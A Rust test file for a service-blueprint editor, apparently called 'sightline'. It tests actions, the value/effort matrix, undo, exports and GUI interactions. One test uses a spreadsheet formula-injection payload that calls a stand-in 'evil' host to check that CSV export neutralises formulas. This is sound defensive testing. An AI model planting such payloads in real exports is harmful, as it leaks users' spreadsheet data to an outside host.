//! Actions and the value/effort matrix: the file (round trip, unknown fields, bad input), links
//! and owners that come and go with undo, the report, CSV and outline, and the editor (an action
//! from a pain point in one key; an idea dragged in the matrix; undo each).

use crate::common::sample;
use egui::vec2;
use egui_kittest::Harness;
use egui_kittest::kittest::Queryable;
use serde_json::{Value, json};
use sightline::edit::{Edit, History};
use sightline::model::{ActionStatus, AnnotationId, Blueprint, StepId};
use sightline::ui::app::SightlineApp;
use uuid::Uuid;

const STEP: &str = "223793b4-97ad-5bb9-9593-dcac0c6ccd51";
const PAIN: &str = "dd7bd2ca-a82f-5df5-a5f4-bd4ba14f9e61";
const IDEA: &str = "d66973fb-2307-5157-9696-4954212a458e";
const ACTION: &str = "5b1a4a5e-7f57-4c43-9a0c-1f1f2e3d4c5b";
const ACTOR: &str = "9d0f5a1e-3b2c-4d5e-8f70-112233445566";

/// The sample with an actor, an action answering a step and a pain point, and an idea placed.
fn with_action() -> Value {
    let mut v = sample();
    v["actors"] = json!([{ "id": ACTOR, "name": "Team Vergunningen", "kind": "team" }]);
    v["annotations"][2]["value"] = json!(0.8);
    v["annotations"][2]["effort"] = json!(0.25);
    v["actions"] = json!([{
        "id": ACTION, "title": "Termijn in de ontvangstbevestiging", "owner": ACTOR, "due": "2027-03-31",
        "status": "doing", "links": [STEP, PAIN], "value": 0.9, "effort": 0.3,
        "x_tool": { "ticket": 12_345_678_901_234_567_890_u64 }
    }]);
    v
}

fn load(v: &Value) -> Blueprint {
    sightline::io::from_value(v.clone()).expect("valid")
}

#[test]
fn actions_round_trip_with_unknown_fields() {
    let bp = load(&with_action());
    let a = &bp.actions()[0];
    assert_eq!(
        (a.title.as_str(), a.status, a.due.as_deref()),
        ("Termijn in de ontvangstbevestiging", ActionStatus::Doing, Some("2027-03-31"))
    );
    assert_eq!(a.links.len(), 2);
    let text = sightline::io::to_string(&bp);
    assert!(text.contains("\"x_tool\"") && text.contains("12345678901234567890"), "unknown fields are kept as written");
    let again = sightline::io::from_str(&text).expect("reads back");
    assert!(again == bp, "save and load give the same blueprint");
    assert_eq!(sightline::io::to_string(&again), text);
    let idea = bp.annotation(AnnotationId(Uuid::parse_str(IDEA).expect("id"))).expect("idea");
    assert_eq!(idea.matrix.map(sightline::model::Matrix::quadrant), Some("quick_wins"));
}

#[test]
fn bad_actions_are_refused_with_their_place() {
    type Change = Box<dyn Fn(&mut Value)>;
    let cases: Vec<(Change, &str)> = vec![
        (Box::new(|v| v["actions"][0]["links"] = json!([Uuid::new_v4()])), "actions[0].links[0]"),
        (Box::new(|v| v["actions"][0]["due"] = json!("2027-02-30")), "actions[0].due"),
        (Box::new(|v| v["actions"][0]["due"] = json!("31-03-2027")), "actions[0].due"),
        (Box::new(|v| v["actions"][0]["status"] = json!("later")), "actions[0].status"),
        (Box::new(|v| v["actions"][0]["owner"] = json!(Uuid::new_v4())), "actions[0].owner"),
        (Box::new(|v| v["actions"][0]["value"] = json!(1.5)), "actions[0].value"),
        (Box::new(|v| drop(v["actions"][0].as_object_mut().map(|o| o.remove("effort")))), "actions[0].effort"),
        (Box::new(|v| v["annotations"][0]["value"] = json!(0.5)), "annotations[0].effort"),
        (
            Box::new(|v| {
                v["annotations"][0]["value"] = json!(0.5);
                v["annotations"][0]["effort"] = json!(0.5);
            }),
            "annotations[0].value",
        ),
        (Box::new(|v| v["actions"][0]["id"] = json!(STEP)), "actions[0].id"),
    ];
    for (change, place) in cases {
        let mut v = with_action();
        change(&mut v);
        let e = sightline::io::from_value(v).expect_err(place);
        assert!(e.problems.iter().any(|p| p.at.starts_with(place)), "{place}: {e}");
    }
}

#[test]
fn a_deleted_step_or_owner_leaves_the_action_and_undo_brings_it_back() {
    let mut bp = load(&with_action());
    let mut h = History::default();
    let step = StepId(Uuid::parse_str(STEP).expect("id"));
    h.apply(&mut bp, Edit::RemoveStep(step), None).expect("delete the step");
    let saved: Value = serde_json::from_str(&sightline::io::to_string(&bp)).expect("json");
    assert!(saved["actions"][0].get("links").is_none(), "the step and its pain point are gone from the links");
    assert!(sightline::analysis::actions::summaries(&bp)[0].answers.is_empty());
    h.undo(&mut bp).expect("undo");
    let saved: Value = serde_json::from_str(&sightline::io::to_string(&bp)).expect("json");
    assert_eq!(saved["actions"][0]["links"], json!([STEP, PAIN]), "undo puts them back");
    // The owner.
    let actor = sightline::model::ActorId(Uuid::parse_str(ACTOR).expect("id"));
    h.apply(&mut bp, Edit::RemoveActor(actor), None).expect("delete the actor");
    let saved: Value = serde_json::from_str(&sightline::io::to_string(&bp)).expect("json");
    assert!(saved["actions"][0].get("owner").is_none());
    h.undo(&mut bp).expect("undo");
    assert_eq!(sightline::analysis::actions::summaries(&bp)[0].owner.as_deref(), Some("Team Vergunningen"));
    bp.check_invariants().expect("valid");
}

#[test]
fn report_csv_and_outline_show_the_actions() {
    let bp = load(&with_action());
    let r = sightline::analysis::report::report(&bp);
    let json = serde_json::to_value(&r).expect("json");
    let a = &json["actions"][0];
    assert_eq!(a["title"], "Termijn in de ontvangstbevestiging");
    assert_eq!(
        (a["owner"].as_str(), a["status"].as_str(), a["quadrant"].as_str()),
        (Some("Team Vergunningen"), Some("doing"), Some("quick_wins"))
    );
    let kinds: Vec<&str> =
        a["answers"].as_array().expect("answers").iter().filter_map(|x| x["kind"].as_str()).collect();
    assert_eq!(kinds, ["step", "pain_point"]);
    let md = sightline::analysis::report::markdown_in(&bp, &r, sightline::templates::Lang::Nl);
    assert!(md.contains("## Acties") && md.contains("eigenaar Team Vergunningen, uiterlijk 2027-03-31, bezig"), "{md}");
    assert!(md.contains("pijnpunt “Termijn onbekend”"), "{md}");
    let csv = String::from_utf8(sightline::analysis::actions::to_csv(&bp).expect("csv")).expect("utf-8");
    let mut lines = csv.lines();
    assert_eq!(lines.next(), Some("id,title,owner,due,status,answers,answer_ids,value,effort,quadrant"));
    assert!(
        lines
            .next()
            .is_some_and(|l| l.contains("Team Vergunningen,2027-03-31,doing,Behandelaar toetst; Termijn onbekend"))
    );
    let outline = sightline::analysis::outline::outline(&bp, sightline::templates::Lang::En);
    assert!(
        outline
            .contains("Actions\n  Termijn in de ontvangstbevestiging — owner Team Vergunningen, due 2027-03-31, doing"),
        "{outline}"
    );
    // The CLI's own format.
    let dir = tempfile::tempdir().expect("dir");
    let file = dir.path().join("a.blueprint.json");
    sightline::io::save_file(&file, &bp).expect("save");
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_sightline"))
        .args(["export"])
        .arg(&file)
        .args(["--format", "actions", "-o", "-"])
        .output()
        .expect("run");
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).starts_with("id,title,owner"));
}

fn app(v: &Value) -> Harness<'static, SightlineApp> {
    crate::common::window_with(v)
}

#[test]
fn an_action_from_a_pain_point_in_one_key_and_undo() {
    let mut h = app(&sample());
    h.state_mut().editor.selection.annotation = Some(AnnotationId(Uuid::parse_str(PAIN).expect("id")));
    h.run();
    h.key_press_modifiers(egui::Modifiers::COMMAND | egui::Modifiers::SHIFT, egui::Key::A);
    h.run();
    let bp = h.state().doc.as_ref().expect("doc").blueprint();
    assert_eq!(bp.actions().len(), 1, "one key makes the action");
    let a = &bp.actions()[0];
    assert_eq!(a.links, [Uuid::parse_str(PAIN).expect("id")], "it answers the pain point");
    assert!(a.title.contains("Termijn onbekend"), "{}", a.title);
    assert!(h.query_by_label("Actions").is_some(), "the Actions panel shows it");
    h.key_press_modifiers(egui::Modifiers::COMMAND, egui::Key::Z);
    h.run();
    assert!(h.state().doc.as_ref().expect("doc").blueprint().actions().is_empty(), "undo takes it back");
    // With nothing selected: a word, no action.
    h.state_mut().editor.selection = sightline::ui::state::Selection::default();
    h.key_press_modifiers(egui::Modifiers::COMMAND | egui::Modifiers::SHIFT, egui::Key::A);
    h.run();
    assert!(h.state().doc.as_ref().expect("doc").blueprint().actions().is_empty());
    assert!(h.state().status.contains("Select a pain point"), "{}", h.state().status);
}

#[test]
fn an_idea_dragged_into_the_matrix_and_undo() {
    let mut h = app(&sample());
    h.key_press_modifiers(egui::Modifiers::COMMAND | egui::Modifiers::SHIFT, egui::Key::M);
    h.run();
    assert!(h.query_by_label("Value and effort").is_some(), "the matrix opens");
    let chip = h.get_by_label("Idea: Status tonen").rect();
    let square = h.get_by_label("The value and effort matrix").rect();
    let from = chip.left_center() + vec2(8.0, 0.0);
    // Much value, little effort.
    let to = square.min + vec2(square.width() * 0.15, square.height() * 0.2);
    h.drag_at(from);
    h.run();
    for k in 1..=5 {
        h.hover_at(from + (to - from) * (k as f32 / 5.0));
        h.run();
    }
    h.drop_at(to);
    h.run();
    let bp = h.state().doc.as_ref().expect("doc").blueprint();
    let idea = bp.annotation(AnnotationId(Uuid::parse_str(IDEA).expect("id"))).expect("idea");
    let m = idea.matrix.expect("placed");
    assert_eq!(m.quadrant(), "quick_wins", "dropped in the quick wins: {m:?}");
    h.key_press_modifiers(egui::Modifiers::COMMAND, egui::Key::Z);
    h.run();
    let bp = h.state().doc.as_ref().expect("doc").blueprint();
    assert!(bp.annotation(AnnotationId(Uuid::parse_str(IDEA).expect("id"))).expect("idea").matrix.is_none(), "undo");
}

#[test]
fn csv_cells_are_never_formulas_and_read_back_as_written() {
    let mut v = sample();
    v["steps"][0]["title"] = json!("=HYPERLINK(\"http://evil/?\"&A1,\"klik\")");
    v["annotations"][0]["text"] = json!("@SUM(1+1)");
    let bp = load(&v);
    let csv = String::from_utf8(sightline::export::to_csv(&bp).expect("csv")).expect("utf-8");
    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
    assert!(csv.contains("'@SUM(1+1)"), "{csv}");
    assert!(!csv.lines().any(|l| l.split(',').any(|c| c.starts_with('=') || c.starts_with('@'))));
    let back = sightline::import::import(
        csv.as_bytes(),
        sightline::import::Format::Csv,
        &sightline::import::Options::default(),
    )
    .expect("import");
    assert!(
        back.blueprint.steps().any(|s| s.title == "=HYPERLINK(\"http://evil/?\"&A1,\"klik\")"),
        "read back as written"
    );
}
